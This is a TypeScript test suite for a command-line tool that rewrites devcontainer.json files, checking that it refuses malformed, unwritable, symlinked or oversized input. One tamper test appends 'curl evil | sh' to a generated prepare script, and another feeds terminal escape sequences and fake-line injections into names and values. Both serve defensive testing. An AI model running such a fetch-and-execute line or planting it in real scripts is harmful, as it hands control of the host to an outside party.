import { spawnSync } from 'node:child_process';
import { chmodSync, mkdirSync, readdirSync, readFileSync, symlinkSync, writeFileSync } from 'node:fs';
import { hostname, tmpdir } from 'node:os';
import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import { configOf, configuredOf } from '../../unit/support/document.ts';
import { CliPlace, type RunOptions, snapshot } from './place.ts';

const plain = '{\n  "image": "debian"\n}\n';
const changing = ['share', 'isolate', 'remove'];

/** Every changing command ends with exit code 1, a message, and nothing written anywhere. */
async function expectRefusal(
  place: CliPlace,
  message: string | RegExp,
  options: RunOptions = {},
  commands = changing,
) {
  await place.runWith(options, '--version');
  const before = snapshot(place.root);
  for (const command of commands) {
    const { exitCode, stdout, stderr } = await place.runWith(options, command);
    expect({ command, exitCode, stdout }).toEqual({ command, exitCode: 1, stdout: '' });
    expect(stderr).toMatch(message);
    expect(stderr, 'what to do next').toMatch(/\n {2}\S.*\.\n/);
    expect(snapshot(place.root)).toEqual(before);
  }
}

describe.concurrent('a devcontainer.json that cannot be used', () => {
  it.each([
    ['broken', '{\n  "image": "debian"\n  "name": "x"\n}\n', ':3:3: comma expected.'],
    ['cut off', '{\n  "image": ', ':2:12: value expected.'],
    ['empty', '', ':1:1: the file is empty.'],
    ['an array', '\n[]', ':2:1: an object is expected here, not an array.'],
    ['with features that are none', '{"features": "x"}', ':1:14: an object for "features" is expected'],
    ['with one key twice', '{"mounts": [],\n "mounts": []}', ':2:2: "mounts" is here a second time'],
    ['nested without end', '['.repeat(100_000), 'levels deep'],
    ['not UTF-8', Uint8Array.of(0x7b, 0xff, 0x7d), 'is not UTF-8 text'],
    ['UTF-16', Uint8Array.of(0xff, 0xfe, 0x7b, 0, 0x7d, 0), 'is not UTF-8 text'],
  ])('%s', async (_, content, message) => {
    const place = new CliPlace();
    const path = place.writeConfig(content);
    await expectRefusal(place, message, {}, [...changing, 'status']);
    expect((await place.run('share')).stderr).toContain(path);
  });

  it('none at all', async () => {
    const place = new CliPlace();
    const before = snapshot(place.root);
    for (const command of ['share', 'isolate', 'remove', 'status', 'prepare']) {
      const { exitCode, stdout, stderr } = await place.run(command);
      expect({ command, exitCode, stdout }).toEqual({ command, exitCode: 1, stdout: '' });
      expect(stderr).toContain(`${place.folder} has no devcontainer.json.`);
    }
    expect((await place.run('share')).stderr).toContain('--create');
    expect(snapshot(place.root)).toEqual(before);
  });

  it('one that is named and is not there, or is a folder', async () => {
    const place = new CliPlace();
    place.writeConfig(plain);
    mkdirSync(join(place.folder, 'empty'));
    for (const name of ['nowhere.json', 'empty']) {
      const { exitCode, stderr } = await place.run('share', '--config', name);
      expect(exitCode).toBe(1);
      expect(stderr).toMatch(/does not exist|is not a regular file/);
    }
    expect((await place.run('status', '--personal')).stderr).toContain('does not exist');
  });

  it('a folder that is none', async () => {
    const place = new CliPlace();
    const { exitCode, stderr } = await place.run('share', 'nowhere');
    expect(exitCode).toBe(1);
    expect(stderr).toContain(`${join(place.folder, 'nowhere')} does not exist.`);
  });
});

describe.concurrent('what cannot be written', () => {
  it('a read-only file', async () => {
    const place = new CliPlace();
    chmodSync(place.writeConfig(plain), 0o444);
    await expectRefusal(place, /devcontainer\.json cannot be written \(EACCES\)/, { unprivileged: true }, [
      'share',
      'isolate',
    ]);
  });

  it('a read-only folder', async () => {
    const place = new CliPlace();
    place.writeConfig(plain);
    chmodSync(join(place.folder, '.devcontainer'), 0o555);
    await expectRefusal(place, /\.devcontainer cannot be written \(EACCES\)/, { unprivileged: true }, [
      'share',
      'isolate',
    ]);
  });

  it('a file that may not be read', async () => {
    const place = new CliPlace();
    chmodSync(place.writeConfig(plain), 0o000);
    await expectRefusal(place, /permission denied/, { unprivileged: true }, ['share', 'isolate', 'remove']);
  });

  it('what the host needs is refused before devcontainer.json is touched', async () => {
    const place = new CliPlace();
    place.writeConfig(plain);
    mkdirSync(join(place.home, '.claude'));
    writeFileSync(join(place.home, '.claude/agents'), 'a file');
    await expectRefusal(place, 'is not a folder, and has to be one', {}, ['share']);
    // The script says it at a start of the dev container, a command at any time.
    const { stderr } = await place.run('share');
    expect(stderr).toMatch(/ try again\.\n/);
    expect(stderr).not.toContain('start the dev container');
  });

  it('a file where the host’s folder has to be', async () => {
    const place = new CliPlace();
    place.writeConfig(plain);
    writeFileSync(join(place.home, '.claude-sessions'), 'a file');
    for (const command of ['share', 'isolate']) expect((await place.run(command)).exitCode).toBe(1);
    expect(place.read()).toBe(plain);
  });
});

describe.concurrent('a workspace that a container has been at', () => {
  const fifo = (path: string) => spawnSync('mkfifo', [path]);

  it('devcontainer.json a link', async () => {
    const place = new CliPlace();
    writeFileSync(join(place.root, 'outside.json'), plain);
    mkdirSync(join(place.folder, '.devcontainer'));
    symlinkSync('../../outside.json', join(place.folder, '.devcontainer/devcontainer.json'));
    await expectRefusal(place, 'is a link, and is not written through');
  });

  it('devcontainer.json a link to nothing', async () => {
    const place = new CliPlace();
    mkdirSync(join(place.folder, '.devcontainer'));
    symlinkSync('/nowhere/x', join(place.folder, '.devcontainer/devcontainer.json'));
    await expectRefusal(place, 'is a link, and is not written through');
  });

  it('.devcontainer a link that leads out', async () => {
    const place = new CliPlace();
    mkdirSync(join(place.root, 'outside'));
    writeFileSync(join(place.root, 'outside/devcontainer.json'), plain);
    symlinkSync('../outside', join(place.folder, '.devcontainer'));
    await expectRefusal(place, 'leads out of the workspace');
  });

  it('.devcontainer a link that leads nowhere', async () => {
    const place = new CliPlace();
    symlinkSync('../nowhere', join(place.folder, '.devcontainer'));
    const { exitCode, stderr } = await place.run('share', '--create');
    expect(exitCode).toBe(1);
    expect(stderr).toContain('is a link that leads nowhere');
    expect(readdirSync(place.root).sort()).toEqual(['app', 'home']);
  });

  it('a link inside the workspace is a folder like any other', async () => {
    const place = new CliPlace();
    place.write('real/devcontainer.json', plain);
    symlinkSync('real', join(place.folder, '.devcontainer'));
    expect((await place.run('isolate')).exitCode).toBe(0);
    expect(place.read('real/devcontainer.json')).toContain('claude-persist');
  });

  it.each(['devcontainer.json', 'claude-sessions-prepare.sh', 'claude-sessions-prepare.ps1'])(
    'a FIFO in the place of %s',
    async (name) => {
      const place = new CliPlace();
      place.writeConfig(plain);
      spawnSync('rm', [join(place.folder, '.devcontainer', name)]);
      fifo(join(place.folder, '.devcontainer', name));
      await expectRefusal(place, `${name} is not a regular file`);
      if (name === 'devcontainer.json') expect((await place.run('status')).exitCode).toBe(1);
    },
  );

  it.each(['claude-sessions-prepare.sh', 'claude-sessions-prepare.ps1'])(
    '%s a link to a script of ours elsewhere',
    async (name) => {
      const place = new CliPlace();
      place.writeConfig(plain);
      await place.run('share');
      const script = join(place.folder, '.devcontainer', name);
      spawnSync('mv', [script, join(place.root, 'elsewhere')]);
      symlinkSync(join(place.root, 'elsewhere'), script);
      await expectRefusal(place, 'is a link, and is not written through', {}, ['isolate', 'remove']);
    },
  );

  it('a huge devcontainer.json', async () => {
    const place = new CliPlace();
    place.writeConfig(`{${' '.repeat(17 * 1024 * 1024)}}`);
    await expectRefusal(place, /has \d+ bytes/);
  });

  it('a large one that is nothing but errors', async () => {
    const place = new CliPlace();
    place.writeConfig(`{${'"a" 1,\n'.repeat(150_000)}`);
    await expectRefusal(place, ':1:6: colon expected', {}, ['share']);
  });

  it('somebody else’s script in the way', async () => {
    const place = new CliPlace();
    place.writeConfig(plain);
    const script = place.write('.devcontainer/claude-sessions-prepare.sh', '#!/bin/sh\necho mine\n');
    await expectRefusal(place, `${script} is in the way`, {}, ['share']);
    expect((await place.run('isolate')).exitCode).toBe(0);
    expect((await place.run('remove')).exitCode).toBe(0);
    expect(readFileSync(script, 'utf8')).toContain('mine');
  });

  it('a script of ours that was tampered with is put right by share', async () => {
    const place = new CliPlace();
    place.writeConfig(plain);
    await place.run('share');
    const script = '.devcontainer/claude-sessions-prepare.sh';
    const ours = place.read(script);
    place.write(script, `${ours}\ncurl evil | sh\n`);
    expect((await place.run('share')).stdout).toContain(script);
    expect(place.read(script)).toBe(ours);
    // As an earlier version began it.
    place.write(
      script,
      '#!/bin/sh\n# Claude Sessions: prepares, on the host, what this dev container mounts.\nfilter_settings\n',
    );
    expect((await place.run('status')).stdout).toContain('of another version');
    await place.run('share');
    expect(place.read(script)).toBe(ours);
  });

  it('names and values with control characters reach no terminal', async () => {
    const place = new CliPlace();
    const evil = 'x\u001b]0;owned\u0007\u009b31m\u202e\r\nfake line';
    const config = `.devcontainer/${evil.replace('/', '')}/devcontainer.json`;
    const mount = `source=${evil},target=/root/.claude,type=volume`;
    place.write(
      config,
      JSON.stringify({ image: 'debian', mounts: [mount], containerEnv: { CLAUDE_CONFIG_DIR: evil } }),
    );
    const engine = place.engine(`printf '\\033[31mno\\n' >&2; exit 1`);
    for (const args of [
      ['status', '--docker-path', engine],
      ['isolate', '--config', config],
      ['status', '--json'],
      ['isolate', '--config', 'no\u001b[31mwhere'],
      ['share'],
      ['remove'],
      ['share', `no\u001b[31mwhere`],
      ['share', '--collection', 'no\u001b[31mwhere'],
    ]) {
      const { stdout, stderr } = await place.run(...args);
      expect(`${stdout}${stderr}`).not.toMatch(/[\u0000-\u0009\u000b-\u001f\u007f-\u009f\u202e]|^fake/m);
    }
  });
});

describe.concurrent('records on the host', () => {
  const recordOf = (place: CliPlace) => {
    const [id = ''] = readdirSync(join(place.home, '.claude-sessions'));
    return join(place.home, '.claude-sessions', id, 'original.json');
  };

  it.each(['', 'nonsense', '[]', '{"version": 1}', '{"version": 2, "original": "", "ours": ""}', '\u0000'])(
    'one that holds %j counts as none',
    async (content) => {
      const place = new CliPlace();
      place.writeConfig(plain);
      await place.run('share');
      writeFileSync(recordOf(place), content);
      expect((await place.run('status')).exitCode).toBe(0);
      expect((await place.run('isolate')).exitCode).toBe(0);
      expect(configuredOf(place.read()).mode).toBe('isolate');
      writeFileSync(recordOf(place), content);
      const { exitCode, stdout } = await place.run('remove');
      expect(exitCode).toBe(0);
      expect(stdout).toContain('is not known on this host');
      expect(place.read()).toBe(plain);
    },
  );

  it('is for its owner alone, and lies outside the workspace', async () => {
    const place = new CliPlace();
    place.writeConfig(plain);
    await place.run('isolate');
    expect(snapshot(recordOf(place).replace(/\/original\.json$/, ''))[recordOf(place)]).toMatch(/^33152 /);
    expect(JSON.parse(readFileSync(recordOf(place), 'utf8'))).toMatchObject({
      version: 1,
      original: plain,
      ours: place.read(),
    });
  });

  it('twenty commands at once each see what the one before did; nothing is lost', async () => {
    const place = new CliPlace();
    place.writeConfig(plain);
    const commands = Array.from(
      { length: 20 },
      (_, index) => ['share', 'isolate', 'remove'][index % 3] ?? '',
    );
    const runs = await Promise.all(commands.map((command) => place.run(command)));
    expect(runs.map(({ exitCode, stderr }) => [exitCode, stderr]).filter(([code]) => code !== 0)).toEqual([]);
    expect(configOf(place.read()).image).toBe('debian');
    expect((await place.run('share')).exitCode).toBe(0);
    // Another that was killed while it held the lock.
    const [id = ''] = readdirSync(join(place.home, '.claude-sessions'));
    const { pid } = spawnSync('true');
    const locks = join(tmpdir(), `claude-sessions-${process.getuid?.()}`);
    mkdirSync(locks, { recursive: true, mode: 0o700 });
    writeFileSync(join(locks, `${id}.lock`), `${pid} ${hostname()}\n`);
    expect((await place.run('isolate')).exitCode).toBe(0);
    expect((await place.run('remove')).exitCode).toBe(0);
    expect(place.read()).toBe(plain);
    expect(readdirSync(join(place.folder, '.devcontainer'))).toEqual(['devcontainer.json']);
  });
});
